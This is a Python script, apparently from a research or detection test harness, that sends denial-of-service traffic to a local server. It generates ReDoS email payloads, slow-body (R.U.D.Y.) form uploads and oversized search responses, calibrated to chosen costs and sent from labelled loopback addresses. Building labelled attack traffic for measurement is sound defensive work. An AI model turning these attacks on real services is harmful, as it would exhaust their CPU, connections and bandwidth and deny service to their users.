"""The attackers, one type per process: requests that each cost the server a chosen amount."""

import json
import math
import random
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection, HTTPException
from typing import NamedTuple
from urllib.parse import quote

import address
import arguments

CALIBRATION_SECONDS = 0.04
# A request combines addresses whose costs are powers of two, like the digits of a binary number.
DIGITS = 5
# Requests are late by up to that share of the interval: at even times, each would meet the recorder's snapshots, which
# are taken at even times too, at the same point of its life.
JITTER = 0.25
PIECES_PER_SECOND = 4
CONTEXT = 40
# What a result of that context takes in the answer.
RESULT_BYTES = 2 * CONTEXT + 42


class Request(NamedTuple):
    method: str
    path: str
    pieces: list
    pause: float = 0


def form(fields, pieces=1, pause=0):
    """A POST of a form, cut into so many pieces, with so many seconds between them."""
    body = fields.encode('ascii')
    cuts = [len(body) * i // pieces for i in range(pieces + 1)]
    return Request('POST', '/login', [body[a:b] for a, b in zip(cuts, cuts[1:])], pause)


def seconds_of(length):
    start = time.thread_time()
    address.valid([address.hostile(length)])
    return time.thread_time() - start


def calibrate():
    """The cost in seconds of a hostile address of length 0, extrapolated from one that takes long enough to time."""
    length = 10
    while seconds_of(length) < CALIBRATION_SECONDS:
        length += 1
    return min(seconds_of(length) for _ in range(3)) / 2 ** length


def redos(costs):
    """Addresses whose check takes that many seconds of CPU."""
    unit = calibrate()
    for cost in costs:
        hostile = []
        units = round(cost / unit)
        while units >= 1 and len(hostile) < DIGITS:
            length = units.bit_length() - 1
            hostile.append(address.hostile(length))
            units -= 2 ** length
        yield form('&'.join('email=' + quote(each) for each in hostile))


def slow_body(costs):
    """R.U.D.Y. (R U Dead Yet): a form that takes that many seconds to come in, a few bytes at a time."""
    for cost in costs:
        pieces = max(2, round(PIECES_PER_SECOND * cost))
        yield form('email=slow@sample.example&password=' + 'x' * (2 * pieces), pieces, cost / (pieces - 1))


def large_answer(costs):
    """A search that is answered by that many megabytes: each place where there is an e."""
    for cost in costs:
        yield Request('GET', f'/search?q=e&context={CONTEXT}&limit={round(1e6 * cost / RESULT_BYTES)}', [])


class Attack(NamedTuple):
    """A type of attack; least and most are what a request costs, in the unit."""
    requests: object
    least: float
    most: float
    unit: str
    source: str
    # Requests that hold the interpreter's lock come one after the other: the server must have time to recover.
    at_once: bool


ATTACKS = {
    'redos': Attack(redos, 0.3, 1.5, 'CPU seconds', '127.0.0.66', False),
    'slow-body': Attack(slow_body, 4, 10, 'seconds', '127.0.0.67', True),
    'large-answer': Attack(large_answer, 15, 45, 'megabytes', '127.0.0.68', False),
}


def spread(least, most, count, chance):
    """Costs evenly spread on a logarithmic scale, in random order."""
    step = math.log(most / least) / max(1, count - 1)
    costs = [least * math.exp(i * step) for i in range(count)]
    chance.shuffle(costs)
    return costs


def exchange(request, host, port, source, timeout):
    """Sends the request; the seconds and bytes it took to be answered."""
    start = time.monotonic()
    connection = HTTPConnection(host, port, timeout=timeout, source_address=(source, 0))
    try:
        connection.putrequest(request.method, request.path)
        connection.putheader('Connection', 'close')
        if request.pieces:
            connection.putheader('Content-Length', str(sum(map(len, request.pieces))))
        # A first piece goes out together with the head.
        connection.endheaders(request.pieces[0] if request.pieces else None)
        for piece in request.pieces[1:]:
            time.sleep(request.pause)
            connection.send(piece)
        response = connection.getresponse()
        body = response.read()
    finally:
        connection.close()
    if response.status != 200:
        raise HTTPException(f'{request.path}: status {response.status}')
    seen = json.loads(body)['origin_ip']
    if seen != source:
        raise HTTPException(f'the server saw {seen} as the source')
    return time.monotonic() - start, len(body)


def at(due, work):
    """Waits until the clock says so, then works."""
    time.sleep(max(0, due - time.monotonic()))
    return work()


def main():
    parser = arguments.Parser(__doc__)
    parser.add_argument('type', choices=ATTACKS, help='what the requests do')
    parser.add_argument('--url', type=arguments.target, default='http://127.0.0.1:3002',
                        help='the server (default %(default)s)')
    parser.add_argument('--requests', type=arguments.number(int, 1, 1000), default=15,
                        help='number of requests (default %(default)s)')
    parser.add_argument('--least', type=arguments.number(float, 0.01, 100),
                        help='what the cheapest request costs: CPU seconds, seconds or megabytes (default: by type)')
    parser.add_argument('--most', type=arguments.number(float, 0.01, 100),
                        help='what the dearest request costs (default: by type)')
    parser.add_argument('--interval', type=arguments.number(float, 0, 3600), default=2.5,
                        help='mean seconds from one request to the next (default %(default)s)')
    parser.add_argument('--delay', type=arguments.number(float, 0, 3600), default=0,
                        help='seconds before the first request (default %(default)s)')
    parser.add_argument('--timeout', type=arguments.number(float, 0.1, 600), default=60,
                        help='seconds of silence (default %(default)s)')
    parser.add_argument('--source', type=arguments.loopback,
                        help='loopback address to send from: that of the type in labels.csv, if left out')
    parser.add_argument('--seed', type=arguments.number(int, 0, 1000000), default=1,
                        help='seed of the order of costs (default %(default)s)')
    options = parser.parse_args()
    attack = ATTACKS[options.type]
    least = attack.least if options.least is None else options.least
    most = attack.most if options.most is None else options.most
    if least > most:
        parser.error(f'--least {least} is above --most {most}')
    source = options.source or attack.source

    began = time.monotonic()
    chance = random.Random(options.seed)
    costs = spread(least, most, options.requests, chance)
    requests = list(attack.requests(costs))
    answers, errors = [], []
    with ThreadPoolExecutor(options.requests if attack.at_once else 1) as pool:
        first = began + options.delay
        pending = [pool.submit(at, first + (i + JITTER * chance.random()) * options.interval,
                               lambda request=request: exchange(request, *options.url, source, options.timeout))
                   for i, request in enumerate(requests)]
        for future in pending:
            try:
                answers.append(future.result())
            except (OSError, HTTPException, ValueError) as error:
                errors.append(error)

    print(json.dumps({
        'role': options.type, 'source': source, 'requests': options.requests, 'ok': len(answers),
        'errors': len(errors), 'seconds': round(time.monotonic() - began, 3),
        'cost': {'unit': attack.unit, 'least': round(min(costs), 3), 'most': round(max(costs), 3),
                 'sum': round(sum(costs), 3)},
        'latency_ms': [round(1000 * seconds) for seconds, _ in answers],
        'bytes': [size for _, size in answers],
    }))
    if errors:
        arguments.fail(f'{len(errors)} requests failed, the first by: {errors[0]}')


if __name__ == '__main__':
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
